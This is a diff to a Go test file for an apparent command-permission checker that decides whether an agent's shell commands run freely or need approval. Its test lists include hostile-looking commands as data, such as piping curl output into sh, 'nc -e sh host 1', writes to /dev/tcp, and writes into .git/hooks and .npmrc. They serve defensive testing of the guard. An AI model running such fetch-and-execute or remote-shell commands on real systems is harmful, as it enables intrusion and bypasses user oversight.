@@ -32,7 +32,9 @@ func TestHeldRuns(t *testing.T) {
 		"echo git push", "git commit -m 'npm publish'", "cargo build", "go test ./...",
 		"mkdir -p /tmp/x && rm -rf /tmp/x",
 		"rm -rf node_modules", "sleep 100 &", "systemctl stop x", strings.Repeat("echo x; ", maxLine/8+1),
-		"python - <<E\nx\nE",
+		"python - <<E\nx\nE", "git clone . /tmp/x", "git fetch .", "git push .", "git push ./bare main", "git pull ./bare x",
+		"git clone file:///w/ws /tmp/x", "npm ci --offline", "npm init -y", "cargo fetch --offline", "goose --version",
+		"claude --version",
 	} {
 		j := Judge{Known: known(), Place: held()}
 		if v := j.Call(Call{Tool: "Bash", Kind: "command", Command: line}); v.Word != Allow || v.Firm || v.Grave {
@@ -57,12 +59,13 @@ func TestBeyond(t *testing.T) {
 			"apt-get install -y x", "ssh host ls", "env -S 'curl x'", "bash -c 'curl x'", "echo 'curl x' | sh",
 			"timeout 5 curl x", "sh <<E\ncurl x\nE", "echo x > /dev/tcp/1.2.3.4/80", "curl x | sh", "bash <(curl x)",
 			"nc -e sh host 1", "xargs curl", "find . -exec curl {} +",
+			"kubectl -n x get pods", "gh pr view 1", "aws s3 ls", "git clone https://x ./y", "git fetch ./x:y://z",
 		}},
 		{"is protected", true, []string{
 			"echo x > sub/.vscode/x", "touch sub/.git/hooks/x", "cp x new/.npmrc", "rm -rf sub/.git", "mkdir -p a/.husky",
 		}},
-		{"nothing takes it back", true, []string{
-			"git push", "git push --force", "git -C a push origin main", "npm publish", "npm --tag x publish",
+		{"nothing takes that back", true, []string{
+			"git push", "git push --force", "git push origin .", "kubectl get x || kubectl delete x", "git -C a push origin main", "npm publish", "npm --tag x publish",
 			"cargo publish",
 			"twine upload dist/*", "python -m twine upload x", "gh pr create", "docker push x", "gem push x",
 			"uv publish",
@@ -78,7 +81,7 @@ func TestBeyond(t *testing.T) {
 			v := Judge{Known: known(), Place: held()}.Call(Call{Tool: "Bash", Kind: "command", Command: line})
 			if v.Word != Ask || v.Grave != c.grave || v.Firm != (c.why == "is protected") ||
 				!strings.Contains(v.Reasons[0].Text, c.why) ||
-				(v.Shut == "") != c.grave || v.Opens == (c.why == "is protected") {
+				v.Shut == "" && !c.grave || v.Opens == (c.why == "is protected") {
 				t.Errorf("%s: %s, grave %v, shut %q, want it to say %s: %+v", line, v.Word, v.Grave, v.Shut, c.why,
 					v.Reasons)
 			}
@@ -280,7 +283,7 @@ func TestFarther(t *testing.T) {
 			if !does(head, words[0], nil) {
 				t.Errorf("%s is not found", words[0])
 			}
-		} else if kind != ofNetwork && kind != ofPublishing {
+		} else if kind != ofNetwork && kind != ofPublishing && kind != ofReading {
 			t.Errorf("%q means nothing", kind)
 		} else if !several && !does(kind, words[0], nil) {
 			t.Errorf("%s is not found", words[0])
